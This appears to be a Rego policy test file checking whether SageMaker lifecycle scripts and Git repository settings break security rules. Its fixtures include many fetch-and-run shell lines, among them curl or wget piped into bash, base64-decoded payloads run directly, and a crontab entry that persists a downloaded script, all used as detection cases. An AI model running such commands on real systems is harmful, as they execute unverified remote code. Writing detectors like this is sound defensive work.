package sagemaker.notebook_code_test

import data.lib.core.unread
import data.sagemaker.notebook_code

refused := {"call": "sagemaker:DescribeNotebookInstance", "code": "AccessDeniedException", "action": "sagemaker:DescribeNotebookInstance"}

blind(document, fields) := object.union(object.remove(document, fields), {"unread": {"*": refused}})

changed(document, changes) := object.union(object.remove(document, object.keys(changes)), changes)

notebook := {
	"resource_type": "AWS::SageMaker::NotebookInstance",
	"resource_id": "arn:research",
	"resource_name": "research",
	"account_id": "111122223333",
	"region": "us-east-1",
	"notebook_instance_lifecycle_config_name": "setup",
	"default_code_repository": "team-code",
}

bare := object.remove(notebook, ["notebook_instance_lifecycle_config_name", "default_code_repository"])

script(text) := {
	"resource_type": "AWS::SageMaker::NotebookInstanceLifecycleConfig",
	"resource_id": "arn:setup",
	"resource_name": "setup",
	"account_id": "111122223333",
	"region": "us-east-1",
	"on_create": [{"content": "#!/bin/bash\n# curl http://x.example | sh\n"}],
	"on_start": [{"content": text}],
}

studio(text) := {
	"resource_type": "AWS::SageMaker::StudioLifecycleConfig",
	"resource_id": "arn:studio",
	"resource_name": "studio",
	"account_id": "111122223333",
	"region": "us-east-1",
	"studio_lifecycle_config_content": text,
}

safe := [
	"curl -o /tmp/x https://tools.example/x && sha256sum -c x.sum",
	"curl https://tools.example/x | tee /tmp/x | jq .",
	"curl -s http://169.254.169.254/latest/meta-data",
	"curl http://localhost:8888/api",
	"wget http://127.0.0.1/x",
	"pip install --index-url https://mirror.example/simple torch",
	"pip install -i https://user:pw@ml-111122223333.d.codeartifact.us-east-1.amazonaws.com/pypi/x torch",
	"pip install torch",
	"curl -i https://x.example/health && curl -f https://x.example/data -o data.json",
	"export http_proxy=http://proxy.example:3128",
	"HTTPS_PROXY=http://proxy.example:3128",
	"curl --proxy http://proxy.example:3128 https://x.example/x",
	"pip config set global.index-url https://aws:$TOKEN@ml-111122223333.d.codeartifact.us-east-1.amazonaws.com/pypi/x/simple/",
	"pip install --index-url https://Mirror.Example:8443/simple torch",
	"curl https://x.example/x | python3 -m json.tool",
	"curl https://x.example/x > data.json; cat notes | sh",
	"curl https://x.example/x -o data.json && python train.py",
	"curl -O https://x.example/i.sh\nsha256sum -c sums\nbash i.sh",
	"wget -qO- https://x.example/x\nbash x.txt",
	"wget https://x.example/data.csv\npython train.py data.csv",
	"curl -s https://x.example/y >/dev/null; ls i.sh",
	"wget -O - https://x.example/y; bash -x - ; bash x/",
	"wget https://x.example/; curl -o x/ https://x.example/y; bash x/",
	"wget https://x.example/data\ndata --version",
	"aws s3 cp s3://team/i.sh . && bash i.sh",
	"true\n# curl https://x.example/i.sh | sh",
]

listing := {"approved_package_indexes": ["mirror.example"]}

test_sm_sec_005_passes if {
	every text in safe {
		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as script(text) with data.config as listing
		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as studio(text) with data.config as listing
	}
	not unread.affects("SM-SEC-005") with input as script("true")
}

test_sm_sec_005_fails_for_scripts_that_are_unpacked_first if {
	every text in ["echo aGk= | base64 -d | bash", "base64 --decode x.b64 | sudo sh", "eval $(echo aGk= | base64 -d)", "bash <(base64 -D x)", "base64 -d|sh", "bash<(base64 -d)"] {
		notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"setup\" possibly runs a script that it unpacks first."} with input as script(text)
	}
	every text in ["echo aGk= | base64 -d > key.pem", "base64 key.pem | bash-formatter", "bash run.sh; base64 -d x > y"] {
		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as script(text)
	}
}

from_the_web := "Lifecycle configuration \"setup\" possibly runs a script straight from the web."

test_sm_sec_005_fails_for_scripts_from_the_web if {
	every text in [
		"curl -sL https://x.example/i.sh | sh",
		"curl https://x.example \\\n | sudo bash -s",
		"curl https://x.example |\\\nbash -s",
		"wget -qO- https://x.example/i.py | python3 -",
		"bash <(curl -s https://x.example/i.sh)",
		"eval $(wget -qO- https://x.example/i.sh)",
		"sh -c \"$(curl -fsSL https://x.example/i.sh)\"",
		"curl -fsSL https://x.example/i.sh | sudo -E bash -",
		"curl -fsSL https://x.example/i.sh | sudo -u ec2-user bash",
		"curl -fsSL 'https://x.example/i.sh?a=1&b=2' | bash",
		"curl -fsSL \"https://x.example/i.sh?a=1&b=2\" | bash",
		"curl -s https://x.example/i.sh 2>&1 | bash",
		"curl -s https://x.example/i.sh | tr -d x | /bin/bash",
		"curl -s https://x.example/i.pl | perl",
		". <(curl -s https://x.example/i.sh)",
		"echo 完了;écurl https://x.example|sh",
		"wget|sh",
		"source<(curl x)",
		"eval`wget x`",
	] {
		notebook_code.deny["SM-SEC-005"] == {from_the_web} with input as script(text) with data.config as {}
	}
}

test_sm_sec_005_fails_for_plain_http if {
	notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"setup\" possibly fetches from x.example without encryption."} with input as script("wget http://x.example/data")
		with data.config as {}
	notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"studio\" possibly fetches from x.example without encryption."} with input as studio("wget http://x.example/data")
		with data.config as {}
}

test_sm_sec_005_fails_for_other_indexes if {
	every option in ["--index-url", "--extra-index-url", "--find-links", "--index", "--default-index", "-i", "-f"] {
		notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"setup\" possibly installs packages from y.example, which is not an approved index."} with input as script(sprintf("pip install %s https://u:p@y.example/simple torch", [option]))
			with data.config as listing
	}
	count(notebook_code.deny["SM-SEC-005"]) == 1 with input as script("pip install -i https://ml-444455556666.d.codeartifact.us-east-1.amazonaws.com/x torch")
		with data.config as listing
}

test_sm_sec_005_reads_both_hooks if {
	both := changed(script("true"), {"on_create": [{"content": "curl https://x.example | sh"}]})
	notebook_code.deny["SM-SEC-005"] == {from_the_web} with input as both with data.config as {}
}

test_sm_sec_005_unread if {
	unread.affects("SM-SEC-005") with input as blind(notebook, ["notebook_instance_lifecycle_config_name"])
	unread.affects("SM-SEC-005") with input as blind(script("true"), ["on_start"])
	unread.affects("SM-SEC-005") with input as blind(studio("true"), ["studio_lifecycle_config_content"])
}

repository(git) := {
	"resource_type": "AWS::SageMaker::CodeRepository",
	"resource_id": "arn:code",
	"resource_name": "team-code",
	"account_id": "111122223333",
	"region": "us-east-1",
	"git_config": git,
}

good := repository({"repository_url": "https://git.example/team/code.git", "secret_arn": "arn:secret"})

commit := repository({"repository_url": "https://git-codecommit.us-east-1.amazonaws.com/v1/repos/code"})

hosts := {"approved_git_hosts": ["git.example"]}

cloning(location) := changed(notebook, {"additional_code_repositories": ["other", location]})

test_sm_sec_007_passes if {
	every document in [good, commit, notebook, cloning("https://git-codecommit.us-east-1.amazonaws.com/v1/repos/code")] {
		count(notebook_code.deny["SM-SEC-007"]) == 0 with input as document with data.config as hosts
		count(notebook_code.skip["SM-SEC-007"]) == 0 with input as document
		count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as document with data.config as hosts
		not unread.affects("SM-SEC-007") with input as document
	}
	with_secret := object.union(commit, {"git_config": {"secret_arn": "arn:secret"}})
	every document in [commit, with_secret] {
		count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as document with data.config as {}
	}
}

test_sm_sec_007_fails_without_stored_credentials if {
	open := repository({"repository_url": "https://git.example/team/code.git"})
	notebook_code.deny["SM-SEC-007"] == {"Git repository \"team-code\" has no credentials in Secrets Manager."} with input as open with data.config as {}
	count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as open with data.config as {}
}

inline := repository({"repository_url": "https://[redacted]@git.example/team/code.git", "secret_arn": "arn:secret"})

test_sm_sec_007_fails_for_inline_credentials if {
	notebook_code.deny["SM-SEC-007"] == {"The URL of Git repository \"team-code\" carries credentials."} with input as inline with data.config as hosts
	count(notebook_code.unknown["SM-SEC-007"]) == 0 with input as inline with data.config as {}
}

test_sm_sec_007_fails_for_other_hosts if {
	elsewhere := repository({"repository_url": "https://git.other/team@v1/code.git", "secret_arn": "arn:secret"})
	notebook_code.deny["SM-SEC-007"] == {"The URL of Git repository \"team-code\" is on git.other, which is not an approved host."} with input as elsewhere
		with data.config as hosts
}

test_sm_sec_007_fails_for_urls_in_notebooks if {
	notebook_code.deny["SM-SEC-007"] == {
		"Notebook instance \"research\" clones \"https://[redacted]@git.other/x\" by its URL: the repository is not registered with stored credentials.",
		"A repository URL of notebook instance \"research\" carries credentials.",
		"A repository URL of notebook instance \"research\" is on git.other, which is not an approved host.",
	} with input as cloning("https://[redacted]@git.other/x") with data.config as hosts
}

test_sm_sec_007_skips_without_repositories if {
	notebook_code.skip["SM-SEC-007"] == {"Notebook instance \"research\" has no Git repository."} with input as bare
}

test_sm_sec_007_unknown_without_a_list if {
	notebook_code.unknown["SM-SEC-007"] == {"No list of approved Git hosts is configured: set the parameter approved_git_hosts."} with input as good
		with data.config as {}
}

test_sm_sec_007_unread if {
	unread.affects("SM-SEC-007") with input as blind(good, ["git_config"])
	unread.affects("SM-SEC-007") with input as blind(notebook, ["default_code_repository"])
	count(unread.failed_calls("SM-SEC-007", "skip")) > 0 with input as blind(notebook, ["default_code_repository"])
	count(unread.failed_calls("SM-SEC-007", "unknown")) > 0 with input as blind(good, ["git_config"])
}

# the same fields in a document of another type are none of these checks' business
test_notebook_code_leaves_other_types_alone if {
	every document in [bare, script("curl https://x.example | sh"), good, inline, repository({"repository_url": "https://git.example/x"}), cloning("https://[redacted]@git.other/x")] {
		other := object.union(document, {"resource_type": "AWS::Other::Thing"})
		fired := {id | some id, messages in notebook_code.deny; count(messages) > 0} with input as other
		fired == set()
		skipped := {id | some id, messages in notebook_code.skip; count(messages) > 0} with input as other
		skipped == set()
		unknown := {id | some id, messages in notebook_code.unknown; count(messages) > 0} with input as other with data.config as {}
		unknown == set()
	}
}

test_sm_sec_005_fails_for_files_that_are_fetched_and_run if {
	every text in [
		"curl -o /tmp/i.sh https://x.example/i.sh && bash /tmp/i.sh",
		"curl -fsSLo i.sh https://x.example/y\nsource ./i.sh",
		"curl --output i.sh https://x.example/y; sh i.sh",
		"curl -s https://x.example/y > i.sh; . i.sh",
		"curl -s https://x.example/y >i.sh 2>/dev/null; bash -x i.sh",
		"curl -LO https://x.example/i.sh\nchmod +x i.sh",
		"(curl -LO https://x.example/i.sh)\n./i.sh",
		"wget https://x.example/i.sh\nzsh i.sh",
		"wget https://x.example/i.sh\n( ./i.sh )",
		"wget https://x.example/i.sh\nsudo ./i.sh",
		"wget -q https://x.example/i.sh -O /tmp/i.sh; nohup /tmp/i.sh",
		"wget https://x.example/i.sh\n(crontab -l; echo '5 * * * * /usr/bin/python3 /root/i.sh') | crontab -",
	] {
		notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"setup\" possibly runs i.sh, which it downloads and compares with no checksum."} with input as script(text)
	}
}

test_sm_sec_005_fails_for_indexes_in_settings_and_variables if {
	every text in [
		"pip config set global.index-url https://y.example/simple", "pip config set global.extra-index-url https://y.example/simple",
		"export PIP_INDEX_URL=https://y.example/simple", "PIP_EXTRA_INDEX_URL=\"https://y.example/simple\"", "UV_INDEX=https://y.example/simple",
		"UV_DEFAULT_INDEX=https://y.example/simple", "PIP_FIND_LINKS=https://y.example/simple",
	] {
		notebook_code.deny["SM-SEC-005"] == {"Lifecycle configuration \"setup\" possibly installs packages from y.example, which is not an approved index."} with input as script(text)
			with data.config as listing
	}
	every host in ["ml-111122223333.d.codeartifact.evil.example", "ml-111122223333.d.codeartifact.us-east-1.amazonaws.com.example"] {
		count(notebook_code.deny["SM-SEC-005"]) == 1 with input as script(sprintf("pip install --index-url https://%s/x torch", [host])) with data.config as listing
	}
	dual_stack := "pip install --index-url https://ml-111122223333.d.codeartifact.us-east-1.on.aws/x torch"
	count(notebook_code.deny["SM-SEC-005"]) == 0 with input as script(dual_stack) with data.config as listing
}

test_sm_sec_005_unknown_where_a_variable_names_the_index if {
	reason := "takes packages from an index that a variable of its script names."
	every text in ["pip install --index-url https://$MIRROR/simple torch", "pip install -i \"$INDEX\" torch", "PIP_INDEX_URL=https://aws:$T@${HOST}/simple"] {
		notebook_code.unknown["SM-SEC-005"] == {concat(" ", ["Lifecycle configuration \"setup\"", reason])} with input as script(text)
		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as script(text)
		notebook_code.unknown["SM-SEC-005"] == {concat(" ", ["Lifecycle configuration \"studio\"", reason])} with input as studio(text)
		count(notebook_code.unknown["SM-SEC-005"]) == 0 with input as object.union(script(text), {"resource_type": "AWS::Other::Thing"})
		faulty := concat("\n", [text, "curl https://x.example | sh"])
		count(notebook_code.unknown["SM-SEC-005"]) == 0 with input as script(faulty)
	}
	every text in safe {
		count(notebook_code.unknown["SM-SEC-005"]) == 0 with input as script(text) with data.config as listing
	}
}

test_sm_sec_007_hosts_however_they_are_written if {
	every location in ["https://Git.Example/team/code.git", "https://git.example:8443/team/code.git"] {
		count(notebook_code.deny["SM-SEC-007"]) == 0 with input as repository({"repository_url": location, "secret_arn": "arn:secret"}) with data.config as hosts
	}
	with_port := {"approved_git_hosts": ["git.example:8443"]}
	count(notebook_code.deny["SM-SEC-007"]) == 0 with input as repository({"repository_url": "https://git.example:8443/x", "secret_arn": "arn:secret"}) with data.config as with_port
	count(notebook_code.deny["SM-SEC-007"]) == 1 with input as repository({"repository_url": "https://git.example/x", "secret_arn": "arn:secret"}) with data.config as with_port
	fips := repository({"repository_url": "https://git-codecommit-fips.us-east-1.amazonaws.com/v1/repos/code"})
	count(notebook_code.deny["SM-SEC-007"]) == 0 with input as fips with data.config as hosts
}

test_sm_sec_005_quotes_are_no_part_of_an_index if {
	every text in ["pip install --index-url \"https://mirror.example\" torch", "pip install --index-url 'https://mirror.example' torch", "pip install --index-url https://mirror.example torch"] {
		count(notebook_code.deny["SM-SEC-005"]) == 0 with input as script(text) with data.config as listing
	}
}

# A name of one letter is a name.
test_sm_sec_005_names_of_files_however_short if {
	count(notebook_code.deny["SM-SEC-005"]) == 1 with input as script("curl -o ab https://x.example/y; bash ab")
	count(notebook_code.deny["SM-SEC-005"]) == 1 with input as script("wget https://x.example/ab; bash ab")
}

# ---- Scripts of which a part was cut ----

cut_script(text) := object.union(script(text), {"possible_secrets": [{"path": "on_start[0].content", "kind": "private key"}]})

test_a_script_of_which_a_part_was_cut_does_not_pass if {
	cut := cut_script("export api_key=\"[redacted]\"\npip install torch")
	count(notebook_code.deny["SM-SEC-005"]) == 0 with input as cut
	said := "A part of the script on_start[0].content of lifecycle configuration \"setup\" was cut as a possible secret: what it does was not read."
	notebook_code.unknown["SM-SEC-005"] == {said} with input as cut
	of_studio := object.union(studio("x=[redacted]"), {"possible_secrets": [{"path": "studio_lifecycle_config_content", "kind": "npm token"}]})
	count(notebook_code.unknown["SM-SEC-005"]) == 1 with input as of_studio
}

test_what_is_left_of_a_script_can_fail if {
	cut := cut_script("TOKEN=[redacted]\ncurl https://x.example/x | sh")
	count(notebook_code.deny["SM-SEC-005"]) == 1 with input as cut
	count(notebook_code.unknown["SM-SEC-005"]) == 0 with input as cut
}

test_what_was_cut_elsewhere_is_no_part_of_a_script if {
	whole := object.union(script("pip install torch"), {"possible_secrets": [{"path": "tags.token", "kind": "npm token"}]})
	count(notebook_code.unknown["SM-SEC-005"]) == 0 with input as whole
}
